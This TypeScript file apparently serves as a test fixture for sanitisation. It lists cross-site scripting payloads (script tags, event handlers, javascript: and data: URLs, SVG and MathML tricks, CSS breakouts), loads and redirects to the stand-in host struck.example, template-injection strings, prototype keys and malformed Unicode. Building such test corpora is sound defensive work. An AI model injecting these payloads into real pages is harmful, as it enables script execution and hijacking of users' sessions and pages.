/**
 * Texts that do something in a page that is careless with them: each would set `globalThis.struck`, ask
 * struck.example for something, or change how the page looks or works.
 */

const run = 'globalThis.struck=1';
const elsewhere = 'https://struck.example';

/** By what they try. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script of another origin': `<script src=${elsewhere}/x.js></script>`,
  'way out of other elements': `"'></textarea></title></style></pre><script>${run}</script>`,
  'image that fails': `<img src=x onerror=${run}>`,
  'image of another origin': `<img src=${elsewhere}/x.png>`,
  svg: `<svg onload=${run}>`,
  'svg with a script': `<svg><script>${run}</script><a href="javascript:${run}"><text>x</text></a></svg>`,
  'svg that animates': `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  mathml: `<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  frame: `<iframe srcdoc="<script>parent.struck=1</script>" src=${elsewhere}></iframe>`,
  'element that focuses itself': `<input autofocus onfocus=${run}>`,
  'element that opens itself': `<details open ontoggle=${run}>x</details>`,
  video: `<video><source onerror=${run}></video><object data=${elsewhere}></object>`,
  form: `<form action=${elsewhere}><button formaction="javascript:${run}">Send</button></form>`,
  'new base': `<base href=${elsewhere}/>`,
  'redirect of the page': `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  'style sheet': `<link rel=stylesheet href=${elsewhere}/x.css>`,
  'style that imports': `<style>@import '${elsewhere}/x.css';main{display:none}</style>`,
  'style declarations': `red;background:url(${elsewhere}/x.png);position:fixed;inset:0`,
  'end of a style': `}</style><style>main{display:none}`,
  'address that runs': `javascript:${run}`,
  'address in disguise': ` jAvA\tscript:${run}//${elsewhere}`,
  'address with a page': `data:text/html,<script>${run}</script>`,
  'link of Markdown': `[open](javascript:${run}) ![x](${elsewhere}/x.png) <${elsewhere}>`,
  'code of Markdown': `\`<img src=x onerror=${run}>\`\n\n\`\`\`\n<script>${run}</script>\n- **x**`,
  'expression of a template': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{7*7}`,
  'end of a script text': `';${run};//\\";${run};//</script>`,
  'end of a comment': `--><script>${run}</script><!-- ]]><![CDATA[`,
  entities: `&lt;script&gt;${run}&lt;/script&gt; &#60;b&#62;`,
  __proto__: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  'text that turns around': 'gro.\u202Eelpmaxe\u202C.kcurts \u2066a\u2069',
  'signs without width': 'a\u200Bb\u200Dc\uFEFFd\u00ADe',
  'lines in disguise': 'a\u2028b\u2029c\u0085d\re',
  'null and bell': 'a\u0000b\u0007c\u001B[31md',
  'half of a pair': 'a\uD800b\uDFFFc',
  'broken percent signs': '%E0%A4%A %zz %00 %2e%2e%2f?#&=+',
  'pile of marks': `Z${'\u0334\u0321\u0322'.repeat(8)}`,
  'long word': 'w'.repeat(3_000),
  'many lines': 'l\n'.repeat(300),
};
